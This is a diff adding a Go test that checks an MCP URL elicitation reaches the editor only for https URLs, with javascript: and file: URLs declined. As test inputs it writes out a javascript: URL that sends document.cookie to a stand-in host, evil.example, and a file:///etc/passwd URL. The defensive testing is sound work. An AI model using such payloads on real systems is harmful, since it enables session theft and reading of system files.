@@ -147,3 +147,68 @@ func TestMCPElicitationCancelled(t *testing.T) {
 		t.Fatalf("prompt = %+v, want stop reason cancelled", r)
 	}
 }
+
+// TestMCPElicitationURLScheme: an MCP server's URL elicitation reaches the
+// editor only for an https: URL; a javascript: or file: URL is declined to
+// the server with the reason, and the editor never sees it.
+func TestMCPElicitationURLScheme(t *testing.T) {
+	srv := mcp.NewServer(&mcp.Implementation{Name: "linker", Version: "1"}, nil)
+	srv.AddTool(&mcp.Tool{Name: "open", InputSchema: json.RawMessage(`{"type":"object","properties":{"url":{"type":"string"}}}`)},
+		func(ctx context.Context, req *mcp.CallToolRequest) (*mcp.CallToolResult, error) {
+			var in struct{ URL string }
+			_ = json.Unmarshal(req.Params.Arguments, &in)
+			res, err := req.Session.Elicit(ctx, &mcp.ElicitParams{Mode: "url", Message: "Sign in", URL: in.URL, ElicitationID: "e-" + in.URL[:4]})
+			if err != nil {
+				return &mcp.CallToolResult{IsError: true, Content: []mcp.Content{&mcp.TextContent{Text: err.Error()}}}, nil
+			}
+			b, _ := json.Marshal(map[string]any{"action": res.Action, "meta": res.Meta})
+			return &mcp.CallToolResult{Content: []mcp.Content{&mcp.TextContent{Text: string(b)}}}, nil
+		})
+	hs := httptest.NewServer(mcp.NewStreamableHTTPHandler(func(*http.Request) *mcp.Server { return srv }, nil))
+	t.Cleanup(hs.Close)
+	mcpSrv := acp.McpServer{HTTP: &acp.McpServerHTTP{Name: "linker", URL: hs.URL, Headers: []acp.HTTPHeader{}}}
+
+	env := newEnv(t, "")
+	rec := record(toolSeq(
+		toolCallReq{"mcp__linker__open", map[string]any{"url": "javascript:fetch('//evil.example/'+document.cookie)"}},
+		toolCallReq{"mcp__linker__open", map[string]any{"url": "file:///etc/passwd"}},
+		toolCallReq{"mcp__linker__open", map[string]any{"url": "https://auth.example/authorize"}},
+	))
+	env.setModel(mainModel, rec)
+	c := env.start(&acp.ClientCapabilities{Elicitation: &acp.ElicitationCapabilities{URL: &acp.ElicitationURLCapabilities{}}})
+	c.setPerm(choose(acp.PermissionOptionKindAllowOnce))
+	var mu sync.Mutex
+	var got []string
+	c.mu.Lock()
+	c.elicit = func(ctx context.Context, req acp.CreateElicitationRequest) (any, error) {
+		mu.Lock()
+		defer mu.Unlock()
+		if req.URL != nil {
+			got = append(got, req.URL.URL)
+		}
+		return acp.CreateElicitationResponse{Accept: &acp.ElicitationAcceptAction{}}, nil
+	}
+	c.mu.Unlock()
+	var resp acp.NewSessionResponse
+	if err := c.call(acp.AgentMethodSessionNew, acp.NewSessionRequest{Cwd: env.cwd, McpServers: []acp.McpServer{mcpSrv}}, &resp); err != nil {
+		t.Fatalf("session/new: %v", err)
+	}
+	c.mustPrompt(resp.SessionID, "open them", acp.StopReasonEndTurn)
+	var texts []string
+	for _, req := range rec.requests() {
+		for _, r := range toolResults(req) {
+			texts = append(texts, resultText(r))
+		}
+	}
+	all := strings.Join(texts, "\n")
+	for _, want := range []string{`scheme \"javascript:\" is not allowed`, `scheme \"file:\" is not allowed`, `"action":"accept"`} {
+		if !strings.Contains(all, want) {
+			t.Errorf("tool results lack %s:\n%s", want, all)
+		}
+	}
+	mu.Lock()
+	defer mu.Unlock()
+	if len(got) != 1 || got[0] != "https://auth.example/authorize" {
+		t.Fatalf("the editor was shown %q, want only the https URL", got)
+	}
+}
